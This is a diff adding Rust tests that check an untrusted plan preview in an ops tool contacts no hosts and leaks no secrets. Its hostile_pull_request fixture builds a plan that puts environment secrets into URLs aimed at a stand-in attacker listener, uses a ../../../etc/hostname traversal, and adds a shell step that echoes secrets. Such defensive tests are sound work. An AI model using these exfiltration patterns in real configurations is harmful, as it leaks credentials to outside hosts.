@@ -627,3 +627,97 @@ fn values_in_shell_commands_stay_one_word() {
     assert!(run.stderr.contains("raw | INJECTED"), "{}", run.stderr);
     assert_eq!(run.code, 0, "{}", run.stderr);
 }
+
+/// A listener standing for a host a pull request's author controls: it records whether
+/// anything connected, and never answers.
+fn trap() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap().to_string();
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = hits.clone();
+    std::thread::spawn(move || {
+        let mut held = Vec::new();
+        for stream in listener.incoming().flatten() {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            held.push(stream);
+        }
+    });
+    (addr, hits)
+}
+
+fn hostile_pull_request(addr: &str) -> String {
+    format!(
+        r#"version: 1
+name: pr
+targets:
+  prod: {{ url: "postgres://u:{{{{ env.SOME_SECRET }}}}@{addr}/db" }}
+repositories:
+  offsite: {{ url: "s3://bucket-{{{{ env.AWS_SECRET_ACCESS_KEY }}}}/x", endpoint: "http://{addr}", force_path_style: true, encryption: {{ recipients_file: ../../../etc/hostname }} }}
+steps:
+  - {{ id: up, type: migrate, target: prod, dir: migrations }}
+  - {{ id: prune, type: prune, repository: offsite, keep: {{ last: 2 }} }}
+  - {{ id: backup, type: backup, target: prod, repository: offsite }}
+  - {{ id: show, type: shell, command: "echo {{{{ env.SOME_SECRET }}}} {{{{ env.PGPASSWORD }}}}" }}
+"#
+    )
+}
+
+#[test]
+fn an_untrusted_preview_contacts_nothing_and_shows_no_environment_value() {
+    let ws = Workspace::new();
+    let (addr, hits) = trap();
+    let plan = ws.write_plan(&hostile_pull_request(&addr));
+    let secrets = [
+        ("SOME_SECRET", "pr-can-steal-this-1"),
+        ("PGPASSWORD", "pr-can-steal-this-2"),
+        ("AWS_SECRET_ACCESS_KEY", "pr-can-steal-this-3"),
+    ];
+    for format in ["text", "markdown", "json"] {
+        let out = opsrunner()
+            .args(["plan", "--untrusted", "--format", format])
+            .arg(&plan)
+            .envs(secrets)
+            .output()
+            .unwrap();
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(out.status.success(), "{text}");
+        assert!(!text.contains("pr-can-steal-this"), "{format}: {text}");
+        assert!(text.contains("(env SOME_SECRET)"), "{format}: {text}");
+        assert!(
+            text.contains("probe skipped (--untrusted)"),
+            "{format}: {text}"
+        );
+    }
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    assert_eq!(
+        hits.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the untrusted preview connected to the plan's host"
+    );
+}
+
+#[test]
+fn a_probe_that_never_answers_times_out_and_says_so() {
+    let ws = Workspace::new();
+    let (addr, hits) = trap();
+    let plan = ws.write_plan(&format!(
+        "version: 1\nname: slow\nrepositories:\n  offsite: {{ url: \"s3://bucket/x\", endpoint: \"http://{addr}\", force_path_style: true }}\nsteps:\n  - {{ id: prune, type: prune, repository: offsite, keep: {{ last: 2 }} }}\n"
+    ));
+    let out = opsrunner()
+        .args(["plan"])
+        .arg(&plan)
+        .env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE")
+        .env("AWS_SECRET_ACCESS_KEY", "example-secret")
+        .env("AWS_REGION", "us-east-1")
+        .env("AWS_EC2_METADATA_DISABLED", "true")
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("probe timed out after 10s"), "{text}");
+    assert!(hits.load(std::sync::atomic::Ordering::SeqCst) > 0);
+}
